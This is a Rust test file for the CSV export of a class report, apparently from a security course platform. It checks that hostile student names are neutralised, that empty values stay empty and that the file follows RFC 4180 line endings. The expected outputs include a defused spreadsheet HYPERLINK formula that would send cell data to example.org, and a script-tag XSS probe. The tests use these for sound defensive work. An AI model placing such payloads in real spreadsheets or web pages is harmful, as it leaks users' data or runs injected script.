//! The table for spreadsheets.

use crate::sample::{class_of, hostile_names};
use crate::{could_be_a_formula, is_quiet, rows};
use landfall::class::csv;
use std::io::Write;
use std::process::{Command, Stdio};

fn columns(rows: &[Vec<String>], name: &str) -> Vec<String> {
    let at = rows[0].iter().position(|column| column == name).unwrap();
    rows[1..].iter().map(|row| row[at].clone()).collect()
}

#[test]
fn every_student_has_one_line_and_no_cell_begins_a_formula() {
    let names = hostile_names();
    let report = class_of(&names);
    let document = csv(&report);
    let rows = rows(&document);
    assert_eq!(rows.len(), names.len() + 1);
    for row in &rows {
        assert_eq!(row.len(), rows[0].len());
        for cell in row {
            assert!(!could_be_a_formula(cell), "{cell:?}");
            assert!(is_quiet(cell) && !cell.contains('\n'), "{cell:?}");
        }
    }
    let read = columns(&rows, "student");
    assert_eq!(
        read[0],
        "'=HYPERLINK(\"https://example.org/?\"&A1,\"click\")"
    );
    assert_eq!(read[8], "<script>alert(1)</script>");
    assert_eq!(read[18], "日本語の名前がとても長い学生の名前です");
    assert_eq!(read[25], "x".repeat(10_000), "nothing is cut from the data");
}

#[test]
fn a_name_that_harms_nobody_stays_as_it_is() {
    let names = ["Zoë Müller-Lüdenscheidt", "O'Brien, Seán", "Ann+Bo"].map(str::to_owned);
    let rows = rows(&csv(&class_of(&names)));
    assert_eq!(columns(&rows, "student"), names);
}

#[test]
fn what_is_not_known_is_empty_and_no_zero() {
    let names: Vec<String> = (0..7).map(|number| format!("Student {number}")).collect();
    let rows = rows(&csv(&class_of(&names)));
    let standings = columns(&rows, "standing");
    assert_eq!(
        standings,
        [
            "stuck",
            "done",
            "under_way",
            "nothing_yet",
            "cannot_tell",
            "unreadable",
            "not_submitted"
        ]
    );
    for column in ["done", "of", "score"] {
        let cells = columns(&rows, column);
        assert!(cells[..4].iter().all(|cell| !cell.is_empty()), "{column}");
        assert!(cells[4..].iter().all(String::is_empty), "{column}");
    }
    assert_eq!(columns(&rows, "score")[..4], ["33.33", "100", "33.33", "0"]);
    assert_eq!(columns(&rows, "late")[..5], ["yes", "no", "yes", "no", ""]);
    assert_eq!(columns(&rows, "quiz_share")[0], "0.67");
    assert_eq!(columns(&rows, "stuck_cause")[0], "target-port-closed");
    assert_eq!(
        columns(&rows, "rds.network")[..3],
        ["attested", "passed", "pending"]
    );
    assert_eq!(columns(&rows, "rds.inbound")[0], "unknown");
    assert_eq!(columns(&rows, "rds.inbound")[4], "");
}

#[test]
fn excel_sees_the_encoding_and_lines_end_as_rfc_4180_says() {
    let document = csv(&class_of(&["Zoë".to_owned(), "Ann\nLee".to_owned()]));
    assert!(document.starts_with("\u{feff}\"student\",\"id\","));
    assert_eq!(document.matches("\r\n").count(), 3);
    assert_eq!(document.matches('\n').count(), 3);
}

#[test]
#[ignore = "needs Python"]
fn python_reads_the_same_cells() {
    const SCRIPT: &str = "import csv, io, json, sys\n\
        text = sys.stdin.buffer.read().decode('utf-8-sig')\n\
        csv.field_size_limit(10**9)\n\
        json.dump(list(csv.reader(io.StringIO(text, newline=''), strict=True)), sys.stdout)";
    let document = csv(&class_of(&hostile_names()));
    let mut python = Command::new("python3")
        .args(["-c", SCRIPT])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = python.stdin.take().unwrap();
    let sent = document.clone();
    let sender = std::thread::spawn(move || stdin.write_all(sent.as_bytes()).unwrap());
    let output = python.wait_with_output().unwrap();
    sender.join().unwrap();
    let read: Vec<Vec<String>> = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(read, rows(&document));
}
